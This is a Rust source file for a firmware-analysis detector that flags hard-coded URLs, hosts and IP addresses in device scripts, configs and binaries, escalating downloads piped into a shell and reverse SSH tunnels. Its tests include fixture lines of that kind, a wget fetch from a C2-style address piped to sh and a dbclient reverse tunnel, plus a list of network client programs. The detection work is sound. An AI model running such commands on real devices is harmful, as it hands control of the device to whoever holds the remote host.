//! Hard-coded hosts the device talks to: URLs, host names and IP addresses in scripts,
//! configs and binaries, with who uses them and whether that runs at boot or from cron.
//! A download piped into a shell, or a reverse tunnel or shell to a fixed host, is raised to
//! high or critical: it hands control of the device to whoever holds that host.

use super::text::printable_strings;
use crate::boot::{
    boot_model, is_text, lines, program_of, shell_words, split_commands, strip_comment, Trigger,
};
use crate::{Analysis, Detector, Rule};
use assay_model::{Category, Confidence, NodeId, Severity};
use regex::bytes::Regex;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::OnceLock;

/// The endpoint detector.
pub struct Endpoints;

const URL: Rule = Rule {
    id: "ASSAY-ENDPOINT-001",
    category: Category::Endpoint,
    severity: Severity::Medium,
    title: "Hard-coded URL",
    description: "A URL to an outside host written into a script, config or binary: telemetry, \
        update or management servers the device contacts. Medium when it is in a script or \
        config the device runs; low in other binaries.",
};
const ADDRESS: Rule = Rule {
    id: "ASSAY-ENDPOINT-002",
    category: Category::Endpoint,
    severity: Severity::Medium,
    title: "Hard-coded host or IP address",
    description: "A fixed host name or IP address that a script, config or binary uses as a \
        server (ACS, update, FTP, MQTT, tunnel end point).",
};
const REMOTE_CODE: Rule = Rule {
    id: "ASSAY-ENDPOINT-003",
    category: Category::Endpoint,
    severity: Severity::Critical,
    title: "Code fetched from a fixed host and executed",
    description: "A command downloads from a hard-coded host and pipes the reply into a shell \
        (`wget … | sh`): whoever controls that host, or the path to it, runs commands as root.",
};
const TUNNEL: Rule = Rule {
    id: "ASSAY-ENDPOINT-004",
    category: Category::Endpoint,
    severity: Severity::High,
    title: "Reverse tunnel or shell to a fixed host",
    description: "A command opens a reverse SSH tunnel (`ssh -R`, `dbclient -R`, `autossh -R`) \
        to a hard-coded host, exposing the device to it (reverse shells over netcat, socat or \
        /dev/tcp are ASSAY-BACKDOOR-030).",
};

static RULES: &[Rule] = &[URL, ADDRESS, REMOTE_CODE, TUNNEL];

/// Domains of upstream projects and standards bodies whose URLs sit in every library's
/// strings (licences, bug trackers, XML namespaces): not endpoints of the device.
const BENIGN_DOMAINS: &[&str] = &[
    "gnu.org",
    "fsf.org",
    "openssl.org",
    "busybox.net",
    "kernel.org",
    "w3.org",
    "xmlsoap.org",
    "freedesktop.org",
    "ietf.org",
    "iana.org",
    "apache.org",
    "mozilla.org",
    "debian.org",
    "ubuntu.com",
    "sourceware.org",
    "python.org",
    "lua.org",
    "gnupg.org",
    "openwrt.org",
    "sqlite.org",
    "curl.se",
    "haxx.se",
    "zlib.net",
    "gzip.org",
    "tukaani.org",
    "github.com",
    "sourceforge.net",
    "savannah.nongnu.org",
    "nongnu.org",
    "thekelleys.org.uk",
    "matt.ucc.asn.au",
    "openssh.com",
    "openbsd.org",
    "isc.org",
    "systemd.io",
    "example.com",
    "example.org",
    "example.net",
    "schemas.microsoft.com",
    "purl.org",
    "xml.org",
    "json-schema.org",
    "libtom.net",
    "libtom.org",
    "gmplib.org",
    "lighttpd.net",
    "redhat.com",
    "oasis-open.org",
    "unicode.org",
    "ntp.org",
    "netfilter.org",
    "kernel.dk",
    "www.w3.org",
    "cacert.org",
    "letsencrypt.org",
    "digicert.com",
    "verisign.com",
    "globalsign.com",
    "tools.ietf.org",
];

fn url_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"(?i-u)\b(?:https?|ftps?|tftp|mqtts?|wss?|coaps?|rtsp|sftp|telnet)://(?:[A-Za-z0-9._~%!$&'()*+,;=-]+@)?([A-Za-z0-9](?:[A-Za-z0-9.-]*[A-Za-z0-9])?|\[[0-9A-Fa-f:.]+\])(?::(\d{1,5}))?(?:/[^\s\x22'<>\\`|;]*)?",
        )
        .expect("valid URL regex")
    })
}

fn ipv4_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        // Not inside a longer run of numbers (`-2.4.8.6-` of SVG path data, `1.2.3.4.5`).
        Regex::new(r"(?:^|[^0-9A-Za-z.\-])((?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])(?:\.(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])){3})(?::(\d{1,5}))?(?:$|[^0-9A-Za-z.\-])")
            .expect("valid IPv4 regex")
    })
}

fn host_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"(?i-u)(?:^|[\s=@'\x22:])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:com|net|org|io|cn|ru|de|uk|jp|kr|tw|fr|it|nl|info|biz|cloud|example|local|lan|iot|tech|co|us|eu|in|br|vn|hk|sg))(?::(\d{1,5}))?\b")
            .expect("valid host regex")
    })
}

/// How an IPv4 address is classed for reporting.
#[derive(Debug, PartialEq, Eq)]
enum AddrClass {
    /// Loopback, unspecified, broadcast, multicast, link-local, netmasks: never endpoints.
    Meaningless,
    /// RFC 1918 / CGNAT: endpoints only where a command connects to them.
    Private,
    /// Everything else (documentation ranges included: they stand for public hosts).
    Public,
}

fn classify_ipv4(ip: &str) -> AddrClass {
    let o: Vec<u8> = ip.split('.').filter_map(|x| x.parse().ok()).collect();
    if o.len() != 4 {
        return AddrClass::Meaningless;
    }
    match o[0] {
        0 | 127 | 255 => AddrClass::Meaningless,
        224..=254 => AddrClass::Meaningless,
        169 if o[1] == 254 => AddrClass::Meaningless,
        10 => AddrClass::Private,
        172 if (16..=31).contains(&o[1]) => AddrClass::Private,
        192 if o[1] == 168 => AddrClass::Private,
        100 if (64..=127).contains(&o[1]) => AddrClass::Private,
        _ if o[3] == 0 && o[2] == 0 => AddrClass::Meaningless,
        _ => AddrClass::Public,
    }
}

fn benign_host(host: &str) -> bool {
    let h = host.to_ascii_lowercase();
    h == "localhost"
        || h.ends_with(".localdomain")
        || h.ends_with(".local")
        || BENIGN_DOMAINS
            .iter()
            .any(|d| h == *d || h.ends_with(&format!(".{d}")))
}

/// Programs that connect out when given a host.
const CLIENTS: &[&str] = &[
    "wget",
    "curl",
    "ssh",
    "dbclient",
    "scp",
    "sftp",
    "rsync",
    "nc",
    "netcat",
    "ncat",
    "ftp",
    "ftpget",
    "ftpput",
    "tftp",
    "telnet",
    "mosquitto_pub",
    "mosquitto_sub",
    "ping",
    "ntpclient",
    "ntpd",
    "openvpn",
    "socat",
    "autossh",
];

struct Seen {
    by_file: BTreeSet<(NodeId, String)>,
}

impl Detector for Endpoints {
    fn name(&self) -> &'static str {
        "endpoints"
    }

    fn rules(&self) -> &'static [Rule] {
        RULES
    }

    fn run(&self, a: &Analysis, out: &mut crate::FindingSink) {
        let mut seen = Seen {
            by_file: BTreeSet::new(),
        };
        // Which files run at boot or from cron, and what starts them; which programs the
        // boot model starts (by base name).
        let mut runs: BTreeMap<NodeId, (Trigger, String)> = BTreeMap::new();
        let mut started_programs: BTreeMap<(usize, String), String> = BTreeMap::new();
        for fs in 0..a.filesystems.len() {
            let model = boot_model(a, fs);
            for (path, by) in &model.boot_scripts {
                if let Some((_, id, _)) = a.read_nested(fs, path) {
                    runs.entry(id).or_insert((Trigger::Boot, by.clone()));
                }
            }
            for c in &model.commands {
                if c.trigger == Trigger::Cron {
                    runs.insert(c.node, (Trigger::Cron, c.started_by.clone()));
                }
                if let Some((p, _)) = program_of(&c.words) {
                    started_programs.insert((fs, p), c.started_by.clone());
                }
            }
        }
        for file in a.files() {
            if file.node.duplicate_of.is_some() && file.fs.is_none() {
                continue;
            }
            if is_text(file.bytes) {
                text_endpoints(
                    a,
                    file.node.id,
                    file.bytes,
                    runs.get(&file.node.id),
                    &mut seen,
                    out,
                );
            } else if file.bytes.starts_with(b"\x7fELF") {
                let base = file.node.path.rsplit('/').next().unwrap_or("").to_string();
                let started = file.fs.and_then(|fs| started_programs.get(&(fs, base)));
                binary_endpoints(a, file.node.id, file.bytes, started, &mut seen, out);
            }
        }
    }
}

fn text_endpoints(
    a: &Analysis,
    node: NodeId,
    bytes: &[u8],
    runs: Option<&(Trigger, String)>,
    seen: &mut Seen,
    out: &mut crate::FindingSink,
) {
    let base_severity = if runs.is_some() || looks_like_config(a, node) {
        Severity::Medium
    } else {
        Severity::Low
    };
    for line in lines(bytes) {
        let text = strip_comment(line.text);
        if text.trim().is_empty() {
            continue;
        }
        // Commands on the line, to find downloads piped into shells and tunnels.
        let commands: Vec<Vec<String>> = split_commands(text)
            .into_iter()
            .map(|(_, c)| shell_words(c))
            .collect();
        let pipes_to_shell = text.contains('|')
            && commands.iter().skip(1).any(|w| {
                program_of(w)
                    .is_some_and(|(p, _)| matches!(p.as_str(), "sh" | "ash" | "bash" | "dash"))
            });
        let client = commands
            .iter()
            .filter_map(|w| program_of(w))
            .find(|(p, _)| CLIENTS.contains(&p.as_str()))
            .map(|(p, _)| p);
        let tunnel = commands.iter().any(|w| {
            program_of(w).is_some_and(|(p, rest)| {
                let args = &w[rest.min(w.len())..];
                // Shells over netcat, socat or /dev/tcp are the reverse-shell detector's.
                matches!(p.as_str(), "ssh" | "dbclient" | "autossh")
                    && args.iter().any(|x| x == "-R" || x.starts_with("-R"))
            })
        });
        let key_says_server = text
            .trim_start()
            .split(['=', ':', ' '])
            .next()
            .filter(|k| {
                !k.is_empty()
                    && k.chars()
                        .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
            })
            .map(|k| {
                let k = k.to_ascii_uppercase();
                [
                    "HOST", "SERVER", "URL", "ACS", "ADDR", "IP", "ENDPOINT", "BROKER", "REMOTE",
                    "PEER", "UPDATE",
                ]
                .iter()
                .any(|w| k.contains(w))
            })
            .unwrap_or(false);
        let line_bytes = line.text.as_bytes();
        let mut found_on_line: Vec<(usize, usize, String, Option<String>, bool)> = Vec::new();
        for m in url_re().captures_iter(line_bytes) {
            let (Some(all), Some(host)) = (m.get(0), m.get(1)) else {
                continue;
            };
            let host_s = String::from_utf8_lossy(host.as_bytes()).into_owned();
            if benign_host(&host_s)
                || classify_ipv4(&host_s) == AddrClass::Meaningless
                    && host_s.chars().all(|c| c.is_ascii_digit() || c == '.')
            {
                continue;
            }
            let port = m
                .get(2)
                .map(|p| String::from_utf8_lossy(p.as_bytes()).into_owned());
            found_on_line.push((all.start(), all.end(), host_s, port, true));
        }
        for m in ipv4_re().captures_iter(line_bytes) {
            let Some(ip) = m.get(1) else { continue };
            if found_on_line
                .iter()
                .any(|f| f.0 <= ip.start() && ip.end() <= f.1)
            {
                continue;
            }
            let ip_s = String::from_utf8_lossy(ip.as_bytes()).into_owned();
            let class = classify_ipv4(&ip_s);
            let wanted = match class {
                AddrClass::Meaningless => false,
                AddrClass::Private => client.is_some() || key_names_remote_server(text),
                AddrClass::Public => !looks_like_version_context(line.text, ip.start()),
            };
            if wanted {
                let port = m
                    .get(2)
                    .map(|p| String::from_utf8_lossy(p.as_bytes()).into_owned());
                found_on_line.push((ip.start(), ip.end(), ip_s, port, false));
            }
        }
        if client.is_some() || key_says_server {
            for m in host_re().captures_iter(line_bytes) {
                let Some(h) = m.get(1) else { continue };
                if found_on_line
                    .iter()
                    .any(|f| f.0 <= h.start() && h.end() <= f.1)
                {
                    continue;
                }
                let host = String::from_utf8_lossy(h.as_bytes()).into_owned();
                if benign_host(&host) || host.ends_with(".so") {
                    continue;
                }
                found_on_line.push((h.start(), h.end(), host, None, false));
            }
        }
        // A table of presets written on one line (a web UI's carrier APN list, a list of
        // public DNS providers): one summary finding, not one per host.
        found_on_line.retain(|f| !seen.by_file.contains(&(node, f.2.clone())));
        if found_on_line.len() > MAX_HOSTS_PER_LINE && !pipes_to_shell && !tunnel {
            let mut hosts: Vec<String> = Vec::new();
            for f in &found_on_line {
                seen.by_file.insert((node, f.2.clone()));
                if !hosts.contains(&f.2) {
                    hosts.push(f.2.clone());
                }
            }
            let any_url = found_on_line.iter().any(|f| f.4);
            let rule = if any_url { URL } else { ADDRESS };
            let shown: Vec<&str> = hosts.iter().take(3).map(String::as_str).collect();
            let mut f = a.finding(
                &rule,
                node,
                line.range.clone(),
                format!(
                    "Table of {} hard-coded hosts on one line ({}, …)",
                    hosts.len(),
                    shown.join(", ")
                ),
            );
            f.severity = Severity::Low;
            f.confidence = Confidence::Medium;
            f.context.insert("hosts".into(), hosts.len().to_string());
            let listed: Vec<&str> = hosts.iter().take(32).map(String::as_str).collect();
            f.context.insert("host_list".into(), listed.join(" "));
            f.context.insert("line".into(), line.number.to_string());
            out.push(f);
            continue;
        }
        for (_, _, host, port, is_url) in found_on_line {
            let matched = line.text.to_string();
            let key = (node, host.clone());
            if !seen.by_file.insert(key) {
                continue;
            }
            let (rule, severity, title) = if pipes_to_shell && client.is_some() {
                (
                    REMOTE_CODE,
                    Severity::Critical,
                    format!("Downloads from {host} and pipes the reply into a shell"),
                )
            } else if tunnel {
                (
                    TUNNEL,
                    Severity::High,
                    format!("Reverse tunnel or shell to {host}"),
                )
            } else if is_url {
                (URL, base_severity, format!("Hard-coded URL to {host}"))
            } else {
                (
                    ADDRESS,
                    base_severity,
                    format!("Hard-coded server address {host}"),
                )
            };
            let mut f = a.finding(&rule, node, line.range.clone(), title);
            f.severity = severity;
            f.confidence = if client.is_some() || key_says_server || is_url {
                Confidence::High
            } else {
                Confidence::Medium
            };
            f.context.insert("host".into(), host);
            if let Some(p) = port {
                f.context.insert("port".into(), p);
            }
            if let Some(c) = &client {
                f.context.insert("client".into(), c.clone());
            }
            if let Some((trigger, by)) = runs {
                f.context.insert("runs".into(), trigger.as_str().into());
                f.context.insert("started_by".into(), by.clone());
            }
            f.context.insert("line".into(), line.number.to_string());
            let _ = matched;
            out.push(f);
        }
    }
}

/// Whether the line assigns a setting whose name says it is a remote server (a private
/// address in `LAN_IP=` or `ipaddr` is the device's own, not a server it contacts).
fn key_names_remote_server(text: &str) -> bool {
    let key = text
        .split(['=', ':', ' '])
        .next()
        .unwrap_or("")
        .to_ascii_uppercase();
    [
        "SERVER", "ACS", "BROKER", "REMOTE", "PEER", "UPDATE", "CLOUD", "TUNNEL",
    ]
    .iter()
    .any(|w| key.contains(w))
}

/// Config files (under /etc, or named like one) are read by the device even if no script
/// names them explicitly.
fn looks_like_config(a: &Analysis, node: NodeId) -> bool {
    let p = a.node(node).path.as_str();
    p.contains("/etc/")
        || p.ends_with(".conf")
        || p.ends_with(".cfg")
        || p.ends_with(".ini")
        || p.ends_with(".json")
}

/// Dotted quads that are really versions (`version 1.2.3.4`, `v10.0.0.1`).
fn looks_like_version_context(line: &str, at: usize) -> bool {
    let before = line[..at.min(line.len())].to_ascii_lowercase();
    let tail: String = before
        .chars()
        .rev()
        .take(12)
        .collect::<String>()
        .chars()
        .rev()
        .collect();
    tail.contains("version")
        || tail.ends_with('v')
        || tail.contains("ver ")
        || tail.contains("ver=")
}

/// More hosts than this on one line of text make a preset table, reported once.
const MAX_HOSTS_PER_LINE: usize = 6;

/// How far around a string in a program its neighbours are read.
const NEIGHBOURHOOD: usize = 96;

/// Whether the strings stored beside a dotted quad in a program show it is a version: the
/// compiler lays out a function's strings together, and a version sits among `os_version`,
/// `krnl version:[%s]`, a build date (`Jan  8 2016`, `11:54:23`) or other version numbers
/// (`2.6.30`), where a server's address sits among host names and options.
fn versions_beside(bytes: &[u8], off: usize, len: usize) -> bool {
    let start = off.saturating_sub(NEIGHBOURHOOD);
    let end = (off + len + NEIGHBOURHOOD).min(bytes.len());
    let near = |r: std::ops::Range<usize>| -> Vec<String> {
        bytes
            .get(r)
            .unwrap_or_default()
            .split(|&b| !(0x20..0x7f).contains(&b))
            .filter(|w| w.len() >= 3)
            .map(|w| String::from_utf8_lossy(w).to_ascii_lowercase())
            .collect()
    };
    let mut before = near(start..off);
    let after = near((off + len).min(end)..end);
    // The string on each side; one that states a dotted number of its own (`version
    // 1.2.3.4`) speaks of that number, not of this one.
    let before: Vec<String> = before.split_off(before.len().saturating_sub(1));
    let after: Vec<String> = after.into_iter().take(1).collect();
    let own_number = |w: &str| ipv4_re().is_match(w.as_bytes());
    before
        .iter()
        .chain(&after)
        .filter(|w| !own_number(w))
        .any(|w| {
            [
                "version", "_ver", "ver.", "release", "build", "date", "krnl", "kernel",
            ]
            .iter()
            .any(|k| w.contains(k))
                || is_build_date_or_time(w)
                || is_short_version(w)
        })
}

/// `Jan  8 2016`, `11:54:23`: the `__DATE__`/`__TIME__` a build stamps beside its version.
fn is_build_date_or_time(w: &str) -> bool {
    const MONTHS: &[&str] = &[
        "jan ", "feb ", "mar ", "apr ", "may ", "jun ", "jul ", "aug ", "sep ", "oct ", "nov ",
        "dec ",
    ];
    let b = w.as_bytes();
    (MONTHS.iter().any(|m| w.starts_with(m))
        && w.len() == 11
        && b[7..].iter().all(u8::is_ascii_digit))
        || (b.len() == 8
            && b[2] == b':'
            && b[5] == b':'
            && b.iter()
                .enumerate()
                .all(|(i, c)| i == 2 || i == 5 || c.is_ascii_digit()))
}

/// A version of two or three numbers (`2.6.30`, `1.17.2`).
fn is_short_version(w: &str) -> bool {
    let parts: Vec<&str> = w.trim().split('.').collect();
    (2..=3).contains(&parts.len())
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|c| c.is_ascii_digit()))
}

fn binary_endpoints(
    a: &Analysis,
    node: NodeId,
    bytes: &[u8],
    started_by: Option<&String>,
    seen: &mut Seen,
    out: &mut crate::FindingSink,
) {
    for (off, s) in printable_strings(bytes, 7) {
        let mut hits: Vec<(usize, usize, String, Option<String>, bool)> = Vec::new();
        for m in url_re().captures_iter(s) {
            let (Some(all), Some(host)) = (m.get(0), m.get(1)) else {
                continue;
            };
            let host_s = String::from_utf8_lossy(host.as_bytes()).into_owned();
            if benign_host(&host_s) || !host_s.contains('.') || host_s.contains('%') {
                continue;
            }
            if host_s.chars().all(|c| c.is_ascii_digit() || c == '.')
                && classify_ipv4(&host_s) == AddrClass::Meaningless
            {
                continue;
            }
            let port = m
                .get(2)
                .map(|p| String::from_utf8_lossy(p.as_bytes()).into_owned());
            hits.push((all.start(), all.end(), host_s, port, true));
        }
        // A string that is exactly an IP address (optionally with a port) is a server.
        let trimmed = std::str::from_utf8(s).unwrap_or("").trim();
        if hits.is_empty() {
            if let Some(m) = ipv4_re().captures(trimmed.as_bytes()) {
                if let Some(ip) = m.get(1) {
                    let whole = m.get(0).map(|x| x.as_bytes().len()).unwrap_or(0)
                        >= trimmed.len().saturating_sub(1);
                    let ip_s = String::from_utf8_lossy(ip.as_bytes()).into_owned();
                    let padded = trimmed.len() < s.len() - (s.len() - s.trim_ascii_start().len());
                    if whole
                        && classify_ipv4(&ip_s) == AddrClass::Public
                        && !padded
                        && !versions_beside(bytes, off, s.len())
                    {
                        let lead = s.len() - s.trim_ascii_start().len();
                        hits.push((lead + ip.start(), lead + ip.end(), ip_s, None, false));
                    }
                }
            }
        }
        for (st, en, host, port, is_url) in hits {
            if !seen.by_file.insert((node, host.clone())) {
                continue;
            }
            let severity = if started_by.is_some()
                || !is_url
                || host.chars().all(|c| c.is_ascii_digit() || c == '.')
            {
                Severity::Medium
            } else {
                Severity::Low
            };
            let rule = if is_url { URL } else { ADDRESS };
            let title = if is_url {
                format!("Hard-coded URL to {host} in a program")
            } else {
                format!("Hard-coded IP address {host} in a program")
            };
            let mut f = a.finding(&rule, node, off + st..off + en, title);
            f.severity = severity;
            f.confidence = Confidence::Medium;
            f.context.insert("host".into(), host);
            if let Some(p) = port {
                f.context.insert("port".into(), p);
            }
            if let Some(by) = started_by {
                f.context.insert("runs".into(), "boot".into());
                f.context.insert("started_by".into(), by.clone());
            }
            out.push(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn versions_stored_beside_version_strings_are_no_addresses() {
        let at = |c: &[u8], n: &[u8]| c.windows(n.len()).position(|w| w == n).expect("needle");
        let cases: &[(&[u8], &[u8])] = &[
            (
                b"\0boardflags\0os_version\0\x005.60.120.1\0os_date\0",
                b"5.60.120.1",
            ),
            (
                b"\0echo 1 > /proc/x\0\x002.6.21.5\0\x002.6.30\0\0atp: x\0",
                b"2.6.21.5",
            ),
            (
                b"\0echo 1 > /proc/x\0\x002.6.8.1\0atp: cur kernel version:[%s]\0",
                b"2.6.8.1",
            ),
            (
                b"\0%s: %s %s\0\x005.60.120.1\0\x0011:54:23\0",
                b"5.60.120.1",
            ),
        ];
        for (c, n) in cases {
            assert!(
                versions_beside(c, at(c, n), n.len()),
                "{}",
                String::from_utf8_lossy(c)
            );
        }
        // A server address among options is still one.
        let c: &[u8] = b"\0defaultSvrAddr\0\x00198.51.100.45\0dhcpPlusInf\0version 1.2.3.4\0";
        assert!(!versions_beside(c, at(c, b"198."), 13));
    }

    #[test]
    fn a_preset_table_on_one_line_is_one_finding() {
        let mut line = b"define(function(){return{\"apns\":[".to_vec();
        for i in 0..20 {
            line.extend_from_slice(
                format!("{{\"carrier\":\"c{i}\",\"url\":\"http://mms.carrier{i}.example/\"}},")
                    .as_bytes(),
            );
        }
        line.extend_from_slice(b"]}});\n");
        let f = run(&[File("/www/lib/apn-config.js", &line, 0o644)]);
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].context["hosts"], "20");
        assert_eq!(f[0].severity, Severity::Low);
    }

    #[test]
    fn numbers_of_svg_paths_are_no_addresses() {
        let ips = |t: &str| {
            ipv4_re()
                .captures_iter(t.as_bytes())
                .filter_map(|c| c.get(1))
                .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
                .collect::<Vec<_>>()
        };
        assert!(ips(r#"<path d="M488.3-32.4c-.9 0-1.8.3-2.4.8.6-.4 1.4-.7"/>"#).is_empty());
        assert_eq!(
            ips("server=203.0.113.5:8080 backup 198.51.100.1"),
            ["203.0.113.5", "198.51.100.1"]
        );
    }
    use crate::testutil::TestEntry::*;

    fn run(entries: &[crate::testutil::TestEntry]) -> Vec<assay_model::Finding> {
        crate::testutil::run_detector(&Endpoints, entries)
    }

    #[test]
    fn finds_phone_home_in_scripts_and_configs() {
        let f = run(&[
            File("/etc/inittab", b"::sysinit:/etc/init.d/rcS\n", 0o644),
            File(
                "/etc/init.d/rcS",
                b"#!/bin/sh\nwget -q -O - \"http://203.0.113.77:8080/c2/beacon?id=$MAC\" | sh\ndbclient -y -i /root/.ssh/id_rsa -N -R 2022:127.0.0.1:22 -p 2222 tunnel@10.8.0.1 &\nifconfig eth0 192.168.1.1 netmask 255.255.255.0\n",
                0o755,
            ),
            File("/etc/igw/cloud.conf", b"[cloud]\nendpoint = mqtts://iot.acme-industrial.example:8883\n", 0o644),
            File("/etc/init.d/agent", b"REPORT_URL=\"https://telemetry.vendor.example/v2\"\nACS_IP=198.51.100.23\n", 0o755),
        ]);
        let by_host = |h: &str| {
            f.iter()
                .find(|x| x.context.get("host").map(String::as_str) == Some(h))
        };
        assert_eq!(
            by_host("203.0.113.77").unwrap().severity,
            Severity::Critical
        );
        assert_eq!(by_host("10.8.0.1").unwrap().severity, Severity::High);
        assert_eq!(
            by_host("iot.acme-industrial.example").unwrap().severity,
            Severity::Medium
        );
        assert!(by_host("198.51.100.23").is_some());
        assert!(by_host("telemetry.vendor.example").is_some());
        // A LAN address given to ifconfig is not an endpoint.
        assert!(by_host("192.168.1.1").is_none());
        assert!(by_host("255.255.255.0").is_none());
    }

    #[test]
    fn ignores_upstream_project_urls_in_binaries() {
        let mut elf = b"\x7fELF\x01\x01\x01\0".to_vec();
        elf.extend_from_slice(b"\0see https://www.gnu.org/licenses/gpl.html\0http://acs.vendor.example:7547/cwmp\x00198.51.100.45\0version 1.2.3.4\0");
        let f = run(&[File("/usr/sbin/cwmpd", &elf, 0o755)]);
        let hosts: Vec<&str> = f
            .iter()
            .filter_map(|x| x.context.get("host").map(String::as_str))
            .collect();
        assert_eq!(hosts, vec!["acs.vendor.example", "198.51.100.45"]);
    }
}
